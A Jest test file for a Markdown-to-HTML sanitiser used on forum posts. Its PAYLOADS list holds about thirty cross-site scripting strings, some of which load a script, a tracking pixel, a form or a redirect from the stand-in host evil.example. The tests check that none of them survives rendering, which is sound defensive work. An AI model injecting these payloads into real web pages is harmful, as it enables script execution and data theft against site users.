import { renderMarkdown } from './markdown';

/** What an attacker types into a post or reply; none may leave an active element or address in `contentHtml`. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](  javascript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](java%0ascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://evil.example/pixel.gif)',
  '[x](//evil.example)',
  '<javascript:alert(1)>',
  '<a href="x" onclick="alert(1)">x</a>',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<form action="https://evil.example"><input name=x></form>',
  '<object data="javascript:alert(1)"></object>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '[x](https://ok.example "title" onclick=alert(1))',
  '<<img src=x onerror=alert(1)//<',
];

/** Tags and attributes an allow-list may produce; anything else in the output is a failure. */
const ALLOWED_TAG =
  /^<\/?(p|br|strong|em|s|del|code|pre|blockquote|ul|ol|li|a|hr|h3|h4|h5|h6|table|thead|tbody|tr|th|td)( (href|rel|start)="[^"]*")*\s*\/?>$/;

describe('Markdown is rendered to sanitised HTML', () => {
  it.each(PAYLOADS)('leaves nothing active of %s', (payload) => {
    const { html } = renderMarkdown(payload);
    for (const tag of html.match(/<[^>]*>/g) ?? []) expect(tag).toMatch(ALLOWED_TAG);
    expect(html).not.toMatch(/<(script|img|svg|iframe|style|object|form|meta|math|body|div)\b/i);
    // Addresses in real tags only (escaped text may quote anything: it is shown, never followed).
    for (const tag of html.match(/<a [^>]*>/g) ?? [])
      expect(/href="([^"]*)"/.exec(tag)?.[1]).toMatch(/^(https?:|mailto:|\/[^/\\])/);
  });

  it('keeps formatting and gives every link rel="nofollow ugc noopener"', () => {
    const { html, links } = renderMarkdown(
      '**Bold** and _it_: [guide](https://moh.example/guide) and https://who.example',
    );
    expect(html).toBe(
      '<p><strong>Bold</strong> and <em>it</em>: <a href="https://moh.example/guide" rel="nofollow ugc noopener">guide</a> and <a href="https://who.example" rel="nofollow ugc noopener">https://who.example</a></p>',
    );
    expect(links).toBe(2);
  });

  it('shows raw HTML as text rather than dropping what was written', () => {
    expect(renderMarkdown('a <b>b</b>').html).toBe('<p>a &lt;b&gt;b&lt;/b&gt;</p>');
  });

  it('turns headings into ones below the page’s own', () => {
    expect(renderMarkdown('# Title').html).toBe('<h3>Title</h3>');
  });
});
